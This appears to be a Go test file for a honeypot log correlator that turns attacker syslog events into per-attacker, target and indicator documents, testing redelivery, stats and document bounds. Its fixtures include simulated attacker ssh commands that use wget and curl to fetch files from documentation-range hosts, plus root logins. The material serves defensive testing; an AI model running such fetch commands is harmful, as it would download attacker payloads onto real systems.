package correlate_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"dossier/correlate"
	"dossier/correlate/commit"
	"dossier/correlate/dialect"
	"dossier/correlate/state"
	"dossier/plugin/chunk/chunktest"
	"dossier/testbed/memory"
	"dossier/testbed/race"
)

// unsure is a store whose writes may be carried out and not answered, or in part
// alone.
type unsure struct {
	*memory.Store
	mu sync.Mutex
	// next says what becomes of the next writes; behind its end all is well.
	next []fate
	// applied counts the writes that were carried out without an answer.
	applied int
}

type fate int

const (
	well fate = iota
	lost      // nothing is carried out, and there is no answer
	deaf      // all is carried out, and there is no answer
	half      // every second is carried out, and there is no answer
)

func (s *unsure) Write(ctx context.Context, ops []commit.Op) ([]commit.Written, error) {
	s.mu.Lock()
	f := well
	if len(s.next) > 0 {
		f, s.next = s.next[0], s.next[1:]
	}
	s.mu.Unlock()
	switch f {
	case well:
		return s.Store.Write(ctx, ops)
	case deaf, half:
		done := ops
		if f == half {
			done = nil
			for i := 0; i < len(ops); i += 2 {
				done = append(done, ops[i])
			}
		}
		if _, err := s.Store.Write(ctx, done); err != nil {
			return nil, err
		}
		s.mu.Lock()
		s.applied++
		s.mu.Unlock()
	}
	return nil, errors.New("connection reset")
}

// visit is a chunk of what one attacker did, with something for every class of
// document; n makes it another chunk.
func visit(n int) []byte {
	at := recordTime.Add(time.Duration(n) * time.Minute)
	stamp := at.Format("2006-01-02T15:04:05.000000+00:00")
	line := func(app, kind, params string) string {
		return fmt.Sprintf(`<134>1 %s decky-%02d %s - %s [relay@55555 src_ip="203.0.113.1" %s]`, stamp, n%3, app, kind, params)
	}
	return chunktest.Lines(at, "log",
		line("ssh", "connect", ""),
		line("ssh", "auth_success", fmt.Sprintf(`username="root" password="p%d"`, n)),
		line("ssh", "command", fmt.Sprintf(`command="id %d; wget http://198.51.100.%d/x; curl -O 198.51.100.7/all"`, n, n)),
		line("smtp_relay", "rcpt_to", `value="<a@acme.com>"`),
		line("smtp_relay", "rcpt_denied", `value="<b@acme.com>"`),
	)
}

// figures are what the documents of all classes count, without what depends on
// when they were written.
func figures(t *testing.T, store *memory.Store) map[string]any {
	t.Helper()
	all := map[string]any{}
	for index := range store.Indices() {
		if strings.HasPrefix(index, "d-chunks") {
			continue
		}
		for id, raw := range store.Documents(index) {
			var doc map[string]any
			if err := json.Unmarshal(raw, &doc); err != nil {
				t.Fatal(err)
			}
			switch {
			case strings.HasPrefix(index, "d-activity"):
				all[index+"/"+id] = doc["activity"]
			case strings.HasPrefix(index, "d-transitions"):
				// Which classes and levels are passed through depends on what
				// was known at a write.
				if !strings.Contains(id, "|class|") && !strings.Contains(id, "|risk|") {
					all[index+"/"+id] = "told"
				}
			default:
				delete(doc, "state")
				delete(doc, "updated_at")
				if strings.HasPrefix(index, "d-smtp-targets") {
					// What was known of the attacker at the last write.
					delete(doc, "risk")
					delete(doc, "behavior")
				}
				all[index+"/"+id] = doc
			}
		}
	}
	return all
}

// A chunk whose write was carried out, in whole or in part, without an answer
// counts once in every document, whoever gets it again.
func TestRedeliveryCountsOnce(t *testing.T) {
	want := memory.New()
	newBenchOn(t, want, nil).flush(t, correlate.OK, visit(0))
	plain := figures(t, want)
	// By value, for each class.
	for name, figure := range map[string]struct {
		index, id string
		path      []string
		want      float64
	}{
		"attacker": {"d-attackers", "203.0.113.1", []string{"event_count"}, 5},
		"target":   {"d-smtp-targets", "203.0.113.1|acme.com", []string{"count"}, 2},
		"URL":      {"d-indicators", state.IndicatorID("url", "http://198.51.100.7/all"), []string{"count"}, 1},
		"hour":     {"d-activity-2026.01", "203.0.113.1|2026-01-08T00", []string{"activity", "events"}, 5},
	} {
		var v any
		var doc map[string]any
		if err := json.Unmarshal(want.Documents(figure.index)[figure.id], &doc); err != nil {
			t.Fatalf("%s: %v in %v", name, err, want.Indices())
		}
		v = doc
		for _, p := range figure.path {
			m, _ := v.(map[string]any)
			v = m[p]
		}
		if v != figure.want {
			t.Errorf("%s: %v is %v, want %v: %v", name, figure.path, v, figure.want, doc)
		}
	}
	for name, next := range map[string][]fate{
		"all carried out": {deaf}, "half carried out": {half}, "carried out twice": {deaf, deaf}, "half, then lost": {half, lost, half},
	} {
		synctest.Test(t, func(t *testing.T) {
			store := &unsure{Store: memory.New(), next: next}
			b := newBenchOn(t, store, nil)
			for b.try(t, visit(0)) != correlate.OK {
			}
			b.flush(t, correlate.OK, visit(0))
			// A process that never saw a marker.
			newBenchOn(t, store, nil).flush(t, correlate.OK, visit(0))
			if store.applied == 0 {
				t.Fatalf("%s: no answer was lost: the test tests nothing", name)
			}
			if got := figures(t, store.Store); !reflect.DeepEqual(got, plain) {
				t.Errorf("%s: %v\nwant %v", name, got, plain)
			}
		})
	}
}

// try delivers a chunk, which may have to come again.
func (b *bench) try(t *testing.T, data []byte) correlate.Result {
	t.Helper()
	r, _ := b.engine.Flush(t.Context(), "tag", data)
	return r
}

// Chunks that come again at any time, at either of two processes, with answers
// lost at random, leave the documents of chunks that came once.
func TestRedeliveriesAtRandom(t *testing.T) {
	const chunks = 6
	want := memory.New()
	once := newBenchOn(t, want, nil)
	for n := range chunks {
		once.flush(t, correlate.OK, visit(n))
	}
	plain := figures(t, want)
	seeds := uint64(60)
	if race.Detector {
		seeds = 12
	}
	for seed := range seeds {
		synctest.Test(t, func(t *testing.T) { redeliver(t, seed, chunks, plain) })
	}
}

// redeliver delivers so many chunks at random and compares the documents. Time
// is not the machine's: pauses take none.
func redeliver(t *testing.T, seed uint64, chunks int, plain map[string]any) {
	r := rand.New(rand.NewPCG(seed, 21))
	store := &unsure{Store: memory.New()}
	for range 40 {
		store.next = append(store.next, []fate{well, well, deaf, half, lost}[r.IntN(5)])
	}
	two := []*bench{newBenchOn(t, store, nil), newBenchOn(t, store, nil)}
	var rest []int
	for n := range chunks {
		for range 1 + r.IntN(3) {
			rest = append(rest, n)
		}
	}
	r.Shuffle(len(rest), func(i, j int) { rest[i], rest[j] = rest[j], rest[i] })
	var wait sync.WaitGroup
	for i, n := range rest {
		deliver := func() {
			for two[(i+n)%2].try(t, visit(n)) != correlate.OK {
			}
		}
		if r.IntN(2) == 0 { // together with those that follow
			wait.Go(deliver)
		} else {
			deliver()
		}
	}
	wait.Wait()
	if got := figures(t, store.Store); !reflect.DeepEqual(got, plain) {
		for k := range plain {
			if !reflect.DeepEqual(got[k], plain[k]) {
				t.Errorf("seed %d: %s: %v\nwant %v", seed, k, got[k], plain[k])
			}
		}
		t.Fatalf("seed %d: %d documents, want %d", seed, len(got), len(plain))
	}
}

// What is whole and no record is counted, when its chunk is done, once; so is
// everything else that a chunk holds.
func TestStatsAreCountedOnce(t *testing.T) {
	store := memory.New()
	b := newBenchOn(t, store, nil)
	var c chunktest.Builder
	c.Value("no record")
	c.Value(chunktest.Map{"a", 1})
	c.Value("nor this")
	data := append(visit(0), c.Bytes()...)
	data = append(data, chunktest.Lines(recordTime, "log", "", "nobody reads this",
		`<134>1 2031-01-08T00:00:00.000000+00:00 decky-01 ssh - connect [relay@55555 src_ip="203.0.113.1"]`)...)
	broken := append(slices.Clip(data), 0x92, 0x92, 0xd7)
	b.refuse = errors.New("disk full")
	b.flush(t, correlate.Retry, broken)
	if s := b.engine.Stats(); s.Records != 0 || s.Malformed != 0 || s.ChunksRetry != 1 || s.Broken != 0 || s.Bytes != 0 {
		t.Errorf("before it is done: %+v", s)
	}
	b.refuse = nil
	b.flush(t, correlate.OK, broken)
	b.flush(t, correlate.OK, data)
	s := b.engine.Stats()
	if s.Malformed != 6 || s.Broken != 1 || s.Records != 16 || s.Events != 12 || s.ClockSkew != 2 || s.Excluded != 0 ||
		s.Refused[dialect.Empty] != 2 || s.Refused[dialect.UnknownShape] != 2 || s.ChunksOK != 2 || s.ChunksRetry != 1 || s.ChunksError != 0 || s.Bytes != int64(len(broken)+len(data)) {
		t.Errorf("stats %+v", s)
	}
}

// Whoever names more things than may have documents opens them up to the bound,
// also where his document is written and theirs are not, and the chunk comes
// again; what others opened counts on.
func TestCrowdsOfThings(t *testing.T) {
	urls := func(address string, from, to int) []byte {
		var lines []string
		for i := from; i < to; i++ {
			lines = append(lines, fmt.Sprintf(`<134>1 2026-01-07T10:00:00+00:00 decky-06 ssh - command [relay@55555 src="%s" command="wget http://198.51.100.7/%d"]`, address, i))
		}
		return chunktest.Lines(recordTime, "log", lines...)
	}
	b := newBench(t, nil)
	b.flush(t, correlate.OK, urls("203.0.113.9", 0, 100))
	if n := len(b.store.Documents("d-indicators")); n != 101 {
		t.Fatalf("%d documents of 100 URLs and a host", n)
	}
	crossing := urls("203.0.113.9", 0, 6000)
	b.flush(t, correlate.OK, crossing)
	n := len(b.store.Documents("d-indicators"))
	if n < 1400 || n > 2800 {
		t.Errorf("%d documents; the bound is about 2000", n)
	}
	newBenchOn(t, b.store, nil).flush(t, correlate.OK, crossing) // opens the same
	b.flush(t, correlate.OK, urls("203.0.113.9", 5900, 7000))
	if again := len(b.store.Documents("d-indicators")); again != n {
		t.Errorf("%d documents, and %d behind another chunk", n, again)
	}
	b.flush(t, correlate.OK, urls("203.0.113.10", 7, 8))
	var doc struct{ Count int }
	id := state.IndicatorID("url", "http://198.51.100.7/7")
	if err := json.Unmarshal(b.store.Documents("d-indicators")[id], &doc); err != nil || doc.Count != 3 {
		t.Errorf("a URL that was open counts %d, %v; want 3", doc.Count, err)
	}

	// The attacker's document is there, the others aren't; the same process gets
	// the chunk again.
	synctest.Test(t, func(t *testing.T) {
		store := &thingless{Store: memory.New()}
		b := newBenchOn(t, store, nil)
		b.flush(t, correlate.Retry, crossing)
		store.all.Store(true)
		b.flush(t, correlate.OK, crossing)
		if n := len(store.Documents("d-indicators")); n < 1400 || n > 2800 {
			t.Errorf("%d documents when the chunk comes again; the bound is about 2000", n)
		}
	})
}

// thingless is a store that takes no indicators until all is set.
type thingless struct {
	*memory.Store
	all atomic.Bool
}

func (s *thingless) Write(ctx context.Context, ops []commit.Op) ([]commit.Written, error) {
	var mine []commit.Op
	out := make([]commit.Written, len(ops))
	var at []int
	for i, op := range ops {
		if s.all.Load() || !strings.HasSuffix(op.Key.Index, "-indicators") {
			mine, at = append(mine, op), append(at, i)
		} else {
			out[i] = commit.Written{Status: commit.Unknown, Reason: "not now"}
		}
	}
	done, err := s.Store.Write(ctx, mine)
	for i := range done {
		out[at[i]] = done[i]
	}
	return out, err
}

// An address that aims at more mail domains than it may have documents for
// opens them up to the bound, and as many of the chunk that crosses it as there
// is room for; those that are open count on.
func TestCrowds(t *testing.T) {
	domains := func(from, to int) []byte {
		var lines []string
		for i := from; i < to; i++ {
			lines = append(lines, fmt.Sprintf(`<134>1 2026-01-07T10:00:00+00:00 decky-06 smtp_relay - rcpt_to [relay@55555 src="203.0.113.9" value="<x@d%d.com>"]`, i))
		}
		return chunktest.Lines(recordTime, "log", lines...)
	}
	b := newBench(t, nil)
	b.flush(t, correlate.OK, domains(0, 100))
	if n := len(b.store.Documents("d-smtp-targets")); n != 100 {
		t.Fatalf("%d documents of 100 domains", n)
	}
	crossing := domains(0, 6000)
	b.flush(t, correlate.OK, crossing)
	n := len(b.store.Documents("d-smtp-targets"))
	if n < 1400 || n > 2800 {
		t.Errorf("%d documents; the bound is about 2000", n)
	}
	newBenchOn(t, b.store, nil).flush(t, correlate.OK, crossing) // opens the same
	b.flush(t, correlate.OK, domains(5900, 7000))
	if again := len(b.store.Documents("d-smtp-targets")); again != n {
		t.Errorf("%d documents, and %d behind another chunk", n, again)
	}
	var doc struct{ Count int }
	if err := json.Unmarshal(b.store.Documents("d-smtp-targets")["203.0.113.9|d7.com"], &doc); err != nil || doc.Count != 2 {
		t.Errorf("a domain that was open counts %d, %v; want 2", doc.Count, err)
	}
}

// headless is a store in which attackers' documents can't be read for the next so
// many reads of them.
type headless struct {
	*memory.Store
	failing atomic.Int64
}

func (s *headless) Read(ctx context.Context, keys []commit.Key) ([]commit.Stored, error) {
	stored, err := s.Store.Read(ctx, keys)
	attackers := func(k commit.Key) bool { return strings.HasSuffix(k.Index, "-attackers") }
	if err == nil && slices.ContainsFunc(keys, attackers) && s.failing.Add(-1) >= 0 {
		for i, k := range keys {
			if attackers(k) {
				stored[i] = commit.Stored{Err: errors.New("no_shard_available_action_exception")}
			}
		}
	}
	return stored, err
}

// The bound of an address holds also where its document can't be read while those
// of what it names can: however long that is, and although the chunk comes again.
func TestCrowdsWhoseAttackerComesLate(t *testing.T) {
	for index, line := range map[string]string{
		"d-smtp-targets": `<134>1 2026-01-07T10:00:00+00:00 decky-06 smtp_relay - rcpt_to [relay@55555 src="203.0.113.9" value="<x@d%d.com>"]`,
		"d-indicators":   `<134>1 2026-01-07T10:00:00+00:00 decky-06 ssh - command [relay@55555 src="203.0.113.9" command="wget http://198.51.100.7/%d"]`,
	} {
		lines := make([]string, 6000)
		for i := range lines {
			lines[i] = fmt.Sprintf(line, i)
		}
		crossing := chunktest.Lines(recordTime, "log", lines...)
		for name, failing := range map[string]int64{"for a moment": 3, "for longer than a chunk waits": 1000} {
			synctest.Test(t, func(t *testing.T) {
				store := &headless{Store: memory.New()}
				b := newBenchOn(t, store, nil)
				store.failing.Store(failing)
				start := time.Now()
				if failing < 100 {
					b.flush(t, correlate.OK, crossing)
				} else {
					b.flush(t, correlate.Retry, crossing)
					if n := len(store.Documents(index)); n != 0 {
						t.Errorf("%s, %s: %d documents before the attacker's", index, name, n)
					}
					store.failing.Store(0)
					start = time.Now()
					b.flush(t, correlate.OK, crossing)
				}
				if took := time.Since(start); took > 2*time.Second {
					t.Errorf("%s, %s: it took %v", index, name, took)
				}
				if n := len(store.Documents(index)); n < 1400 || n > 2800 {
					t.Errorf("%s, %s: %d documents; the bound is about 2000", index, name, n)
				}
			})
		}
	}
}
